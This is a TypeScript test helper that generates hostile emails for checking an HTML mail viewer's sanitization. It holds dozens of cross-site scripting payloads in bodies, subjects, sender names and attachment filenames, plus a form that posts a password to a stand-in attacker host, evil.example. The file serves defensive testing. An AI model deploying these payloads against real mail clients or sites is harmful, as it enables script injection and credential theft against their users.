/**
 * @module Test helper: hostile messages. Every payload that manages to run calls `alert()` and asks the
 * canary server on 127.0.0.1 for a URL; remote URLs point at evil.example, which a test must never see asked.
 */
import type Mail from 'nodemailer/lib/mailer/index.js';

/** The messages; `canary` is an http://127.0.0.1:PORT base that counts hits. */
export function hostileMessages(canary: string): Mail.Options[] {
  const run = (tag: string) => `alert('${tag}');fetch('${canary}/ran/${tag}');new Image().src='${canary}/img/${tag}'`;
  const base = { from: 'Mallory <mallory@localhost>', to: 'admin@localhost' };
  const html = (subject: string, body: string): Mail.Options => ({ ...base, subject: `hostile: ${subject}`, text: `plain part of ${subject}`, html: body });
  return [
    html('script tags', `<p>hi</p><script>${run('script')}</script><SCRIPT SRC="${canary}/ext.js"></SCRIPT><scr<script>ipt>${run('split')}</script>`),
    html('event handlers', `<img src=x onerror="${run('onerror')}"><body onload="${run('onload')}"><div onmouseover="${run('hover')}">hover</div><details open ontoggle="${run('toggle')}">x</details><input autofocus onfocus="${run('focus')}">`),
    html('javascript and data URLs', `<a href="javascript:${run('jslink')}">a</a><a href="JaVaScRiPt:${run('jslink2')}">b</a><a href="data:text/html,<script>${run('datalink')}</script>">c</a><iframe src="javascript:${run('jsframe')}"></iframe><iframe src="data:text/html;base64,${Buffer.from(`<script>${run('dataframe')}</script>`).toString('base64')}"></iframe><embed src="data:image/svg+xml,<svg onload=&quot;${run('embed')}&quot;/>"><object data="${canary}/object"></object>`),
    html('SVG', `<svg xmlns="http://www.w3.org/2000/svg" onload="${run('svg')}"><script>${run('svgscript')}</script><a href="javascript:${run('svglink')}"><text>x</text></a><image href="https://evil.example/svg.png"/><foreignObject><iframe src="${canary}/fo"></iframe></foreignObject></svg><img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run('svgimg')}"/>`).toString('base64')}">`),
    html('CSS tricks', `<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/bg.png)} *{behavior:url(x.htc)}</style><div style="background-image:url('https://evil.example/div.png');width:expression(${run('expr')})">css</div><p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</p><link rel="stylesheet" href="https://evil.example/l.css"><font face="x" style="font-family:url(https://evil.example/f)">f</font>`),
    html('meta refresh and base', `<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><meta http-equiv="refresh" content="0;url=javascript:${run('metajs')}"><base href="https://evil.example/"><a href="relative">relative link</a><img src="https://evil.example/tracker.gif" width="1" height="1">`),
    html('forms', `<form action="https://evil.example/steal" method="post"><input name="password" type="password" value="x"><button formaction="javascript:${run('formaction')}">go</button><input type="submit"></form><isindex action="https://evil.example/"><textarea>x</textarea>`),
    {
      from: `"<img src=x onerror=${run('from')}>" <mallory@localhost>`,
      to: 'admin@localhost',
      subject: `<script>${run('subject')}</script> <img src=x onerror=${run('subjectimg')}>`,
      text: `plain text with <script>${run('text')}</script> and javascript:${run('textjs')} and <img src=x onerror=${run('textimg')}> and a link https://evil.example/"><script>${run('textlink')}</script>`,
      attachments: [
        { filename: `"><img src=x onerror=${run('attachment')}>.html`, content: `<script>${run('attachmentbody')}</script>`, contentType: 'text/html' },
        { filename: 'evil.svg', content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run('attsvg')}"/>`, contentType: 'image/svg+xml' },
      ],
    },
  ];
}
